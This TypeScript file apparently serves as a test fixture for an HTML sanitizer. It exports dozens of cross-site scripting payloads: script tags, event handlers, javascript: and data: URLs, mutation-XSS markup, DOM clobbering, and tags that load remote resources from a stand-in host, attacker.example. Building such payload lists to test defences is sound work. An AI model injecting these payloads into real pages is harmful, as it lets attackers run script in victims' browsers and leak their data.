/** Where a payload would send something; no request may ever go there. */
export const ATTACKER = "https://attacker.example";

/** Sets a flag on the page when it runs, besides asking for attention. */
const RUN = "window.__ran=(window.__ran||0)+1;alert(1)";

/**
 * Attempts to run a script, to send something away or to lead somewhere by javascript:, in the families
 * that OWASP's cheat sheet names; the wording is our own.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Script elements, plain and disguised.
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="${ATTACKER}/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `"><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  // Handlers of events.
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x" onload="${RUN}" onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
  `<a href="#" onmouseover="${RUN}">hover</a>`,
  // Addresses that are code.
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="JaVaScRiPt:${RUN}">press</a>`,
  `<a href=" &#14; javascript:${RUN}">press</a>`,
  `<a href="java&#x09;script:${RUN}">press</a>`,
  `<a href="java&#10;script:${RUN}">press</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${RUN}">press</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">press</a>`,
  `<a href="vbscript:msgbox(1)">press</a>`,
  `<img src="javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<form action="javascript:${RUN}"><button>press</button></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<math href="javascript:${RUN}">press</math>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">press</text></a></svg>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  // Foreign content and markup that changes when it is parsed again.
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<select><option><style></option></select><img src=x onerror="${RUN}"></style>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  // Names that stand in the way of the page's own.
  `<form id="document"><input name="cookie"></form>`,
  `<img name="getElementById">`,
  // Requests that leave: a picture that counts readers, a style, a font, a frame, a beacon.
  `<img src="${ATTACKER}/pixel.gif">`,
  `<img srcset="${ATTACKER}/pixel.gif 1x">`,
  `<picture><source srcset="${ATTACKER}/p.webp"><img src="${ATTACKER}/p.gif"></picture>`,
  `<style>@import url("${ATTACKER}/x.css");</style>`,
  `<link rel="stylesheet" href="${ATTACKER}/x.css">`,
  `<link rel="prefetch" href="${ATTACKER}/x">`,
  `<p style="background:url(${ATTACKER}/bg.gif)">x</p>`,
  `<table background="${ATTACKER}/bg.gif"><tr><td>x</td></tr></table>`,
  `<iframe src="${ATTACKER}/frame"></iframe>`,
  `<video poster="${ATTACKER}/poster.gif" src="${ATTACKER}/v.mp4" autoplay></video>`,
  `<audio src="${ATTACKER}/a.mp3" autoplay></audio>`,
  `<object data="${ATTACKER}/o"></object>`,
  `<a href="https://harmless.example" ping="${ATTACKER}/ping">press</a>`,
  `<svg><image href="${ATTACKER}/i.svg"/></svg>`,
  `<svg><use href="${ATTACKER}/sprite.svg#x"/></svg>`,
  `<math><annotation-xml encoding="text/html"><img src="${ATTACKER}/m.gif"></annotation-xml></math>`,
];
